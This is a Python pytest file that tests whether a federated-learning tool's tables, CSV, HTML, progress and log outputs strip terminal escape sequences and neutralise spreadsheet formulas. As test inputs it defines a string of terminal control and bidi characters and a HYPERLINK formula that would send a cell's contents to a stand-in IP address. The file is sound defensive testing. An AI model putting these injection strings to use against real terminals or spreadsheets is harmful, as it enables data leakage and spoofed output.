"""Names and texts that came from files, sites or configs: none of them steers a terminal or a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from rich.console import Console

from fedprompt.cli import options, run_configs
from fedprompt.config import FederationConfig, TrainConfig
from fedprompt.core.first_step import FirstStep
from fedprompt.core.messages import Failure
from fedprompt.dashboard.discovery import printable
from fedprompt.dashboard.downsampling import clip, plain
from fedprompt.deploy import status
from fedprompt.experiment.progress import LiveProgress
from fedprompt.inference.predict import Row as Prediction
from fedprompt.inference.prediction_writer import csv_lines, table_lines
from fedprompt.report import html_elements, latex_table, table_formats
from fedprompt.report.comparison_table import Cell, Row, Spread
from fedprompt.report.tasks import Task

pytestmark = pytest.mark.unit

SOURCE = Path(__file__).parents[2] / "src" / "fedprompt"
EVIL = "a\x1b[2J\x1b]0;t\x07\x9b31m\r\n\u202eb\u2066\u200bc\x00\ttail"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'


def row(label: str) -> Row:
    settings = {"federation.held_out": None, "federation.evaluate_clients": 0}
    values = {"average": Spread(-0.5, 0.25)}
    return Row(
        label=label, rounds=1, of=2, family="f", seeds=(0, 1), values=values, settings=settings, refused={label: 2}
    )


def task(text: str) -> Task:
    return Task(text, (row(text),))


def prediction(name: str) -> Prediction:
    fields = {
        "name": name,
        "label": name,
        "top": ((name, 0.5),),
        "entropy": -0.5,
        "mutual_information": None,
        "error": None,
    }
    return Prediction(**fields)


def printed(renderable: Any) -> str:
    console = Console(file=io.StringIO(), width=400, color_system=None)
    console.print(renderable)
    return console.file.getvalue()  # type: ignore[attr-defined,no-any-return]


def progress(text: str) -> str:
    console = Console(file=io.StringIO(), width=400, color_system=None)
    shown = LiveProgress(console)
    config = SimpleNamespace(
        label=text, seed=0, run_name=text, train=TrainConfig(), federation=FederationConfig(rounds=3)
    )
    shown.started(config, [text], 0)  # type: ignore[arg-type]
    shown.noted(text)
    shown.warned(1, text)
    shown.measured({text: FirstStep(1.0, 1.0, 5.0)})
    shown.refused(1, Failure(0, text, text))
    shown.untested(1, Failure(0, text, text))
    shown.cohort(1, [0])
    return console.file.getvalue() + printed(shown._panel())  # type: ignore[attr-defined,no-any-return]


def standing(text: str) -> str:
    found: dict[str, Any] = {
        "certificates": [dict.fromkeys(status.CERTIFICATES, text)],
        "nodes": [dict.fromkeys(status.NODES, text)],
        "started": [dict.fromkeys(status.STARTED, text)],
        "runs": [{**dict.fromkeys(status.FILES, text), "refused": {text: 3}}],
    }
    return "".join(map(printed, status.tables(found)))


SINKS: dict[str, Callable[[str], str]] = {
    "table": lambda text: printed(table_formats.rich_tables([task(text)])[0]),
    "markdown": lambda text: table_formats.markdown([task(text)]),
    "csv": lambda text: table_formats.csv([task(text)]),
    "latex": lambda text: latex_table.flat_table([row(text)]),
    "page": lambda text: html_elements.table(text, [text], [[Cell(text)]]) + html_elements.paragraph(text),
    "progress": progress,
    "status": standing,
    "predictions": lambda text: "\n".join(table_lines([prediction(text)], [text], 1)),
    "predictions as CSV": lambda text: "\n".join(csv_lines([prediction(text)], 1)),
    "dashboard": lambda text: clip(text, 1000) + printable(text) + "".join(plain({text: text}).popitem()),
}


@pytest.mark.parametrize("sink", SINKS)
def test_no_control_character_comes_out(sink: str) -> None:
    shown = SINKS[sink](EVIL)
    assert [letter for letter in shown if not letter.isprintable() and letter != "\n"] == []
    assert "tail" in shown


@pytest.mark.parametrize("sink", sorted({*SINKS} - {"page", "dashboard"}))
def test_no_name_makes_lines_of_its_own(sink: str) -> None:
    assert SINKS[sink]("a\nb\r\nc").count("\n") == SINKS[sink]("a b  c").count("\n")


@pytest.mark.parametrize("sink", ["table", "progress", "status"])
def test_no_name_is_markup_of_the_terminal(sink: str) -> None:
    assert "[red]a[/red]" in SINKS[sink]("[red]a[/red]")


def test_errors_and_lines_keep_their_breaks_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
    run_configs.say(f"one\ntwo {EVIL}")
    options.emit({}, False, f"one\ntwo {EVIL}")
    for shown in capsys.readouterr():
        assert shown.startswith("one\ntwo a")
        assert [letter for letter in shown if not letter.isprintable() and letter != "\n"] == []


def test_the_last_word_of_a_command_is_safe(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from fedprompt import cli
    from fedprompt.errors import RunError

    def fails() -> None:
        raise RunError(EVIL)

    monkeypatch.setattr(cli, "app", fails)
    with pytest.raises(SystemExit):
        cli.main()
    shown = capsys.readouterr().err
    assert shown.startswith("error: a")
    assert [letter for letter in shown if not letter.isprintable() and letter != "\n"] == []


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", " =", "＝"])
def test_no_cell_is_a_formula_and_numbers_stay_numbers(begin: str) -> None:
    name = begin + FORMULA[1:]
    (_, first), (__, second) = (
        list(csv.reader(io.StringIO(text)))
        for text in (table_formats.csv([task(name)]), "\n".join(csv_lines([prediction(name)], 1)))
    )
    assert first[0].startswith("'")
    assert [cell[:1] for cell in second[:3]] == ["'"] * 3
    assert "-0.5" in first
    assert second[4] == "-0.5"


@pytest.mark.parametrize("name", ["-1", "+2.5", "-1e-3", "cat", "a=b", "1-2", "", "'quoted'"])
def test_harmless_cells_are_as_they_were(name: str) -> None:
    from fedprompt.io.safe_text import safe_cell

    assert safe_cell(name) == name


def test_json_is_exact() -> None:
    assert table_formats.json_rows([task(EVIL)])[0]["label"] == EVIL
    assert prediction(EVIL).to_json()["image"] == EVIL


def test_a_log_that_is_followed_is_safe() -> None:
    from fedprompt.deploy.submit import copy_safely

    out = io.StringIO()
    copy_safely(io.BytesIO(f"one\n{EVIL}\nlast".encode() + b"\xff"), out)
    assert out.getvalue().startswith("one\na")
    assert [letter for letter in out.getvalue() if not letter.isprintable() and letter != "\n"] == []


WRITERS = {"print", "echo"}
SAFE = {"safe_text", "safe_line", "dumps"}
EXACT = {  # what prints only text of fedprompt's own, or has been made safe cell by cell
    ("cli/run_configs.py", "table_formats.csv(tasks)"),
    ("cli/run_configs.py", "table_formats.markdown(tasks)"),
    ("cli/run_configs.py", "latex(runs, against)"),
    ("cli/models.py", "line"),
    ("cli/info.py", "text"),  # the schema, as JSON
    ("cli/models.py", "tally.sentence()"),
    ("cli/options.py", "json.dumps(data, indent=2, default=str) if as_json else safe_text(text)"),
    ("cli/reproduce.py", "path.read_text(encoding='utf-8')"),
    ("io/log_lines.py", "line"),  # of `line_of`, which makes it safe
    ("io/log_lines.py", "made"),  # of `relayed`, the same
}


def test_whatever_is_printed_is_made_safe_or_is_known_to_be() -> None:
    """A new `print` of a text from elsewhere must be noticed here."""
    unsafe = set()
    for path in SOURCE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            name = getattr(node.func, "id", getattr(node.func, "attr", ""))
            owner = ast.unparse(node.func.value) if isinstance(node.func, ast.Attribute) else "typer"
            if name not in WRITERS or owner != "typer":
                continue
            given = node.args[0]
            called = getattr(getattr(given, "func", None), "id", getattr(getattr(given, "func", None), "attr", ""))
            if not isinstance(given, ast.Constant) and called not in SAFE:
                unsafe.add((path.relative_to(SOURCE).as_posix(), ast.unparse(given)))
    assert unsafe <= EXACT
